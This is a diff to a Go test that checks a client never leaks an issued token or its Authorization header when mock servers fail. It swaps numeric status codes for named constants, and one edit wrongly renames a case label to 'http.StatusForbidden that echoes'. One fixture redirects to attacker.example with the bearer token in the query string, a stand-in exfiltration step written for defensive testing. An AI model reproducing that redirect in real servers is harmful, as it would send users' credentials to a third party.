@@ -206,7 +206,7 @@ func TestPain25NoSecretIsShownOnFailure(t *testing.T) {
 	const issued = "issued-canary-0123456789" // in answers that cannot be used
 	atToken := map[string]http.HandlerFunc{
 		"echo":                   echoBody,
-		"echo in another error":  func(rw http.ResponseWriter, r *http.Request) { http.Redirect(rw, r, "/x?"+r.URL.RawQuery, 302) },
+		"echo in another error":  func(rw http.ResponseWriter, r *http.Request) { http.Redirect(rw, r, "/x?"+r.URL.RawQuery, http.StatusFound) },
 		"500":                    answer(500, "text/plain", issued),
 		"malformed":              answer(200, "application/json", `{"access_token":"`+issued),
 		"wrong types":            answer(200, "application/json", `{"access_token":{"x":"`+issued+`"}}`),
@@ -243,7 +243,7 @@ func TestPain25NoSecretIsShownOnFailure(t *testing.T) {
 			rw.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+r.Header.Get("Authorization")+`", scope="read"`)
 			http.Error(rw, r.Header.Get("Authorization"), http.StatusUnauthorized)
 		},
-		"403 that echoes": func(rw http.ResponseWriter, r *http.Request) { http.Error(rw, r.Header.Get("Authorization"), 403) },
+		"http.StatusForbidden that echoes": func(rw http.ResponseWriter, r *http.Request) { http.Error(rw, r.Header.Get("Authorization"), 403) },
 		"500 that echoes": func(rw http.ResponseWriter, r *http.Request) { http.Error(rw, r.Header.Get("Authorization"), 500) },
 		"200 that echoes": func(rw http.ResponseWriter, r *http.Request) {
 			_, _ = io.WriteString(rw, r.Header.Get("Authorization"))
@@ -257,7 +257,7 @@ func TestPain25NoSecretIsShownOnFailure(t *testing.T) {
 			_, _ = io.WriteString(rw, r.Header.Get("Authorization")+"\n\n")
 		},
 		"redirect that echoes": func(rw http.ResponseWriter, r *http.Request) {
-			http.Redirect(rw, r, "https://attacker.example/?"+url.QueryEscape(r.Header.Get("Authorization")), 307)
+			http.Redirect(rw, r, "https://attacker.example/?"+url.QueryEscape(r.Header.Get("Authorization")), http.StatusTemporaryRedirect)
 		},
 		"session that echoes": func(rw http.ResponseWriter, r *http.Request) {
 			rw.Header().Set("Mcp-Session-Id", r.Header.Get("Authorization"))
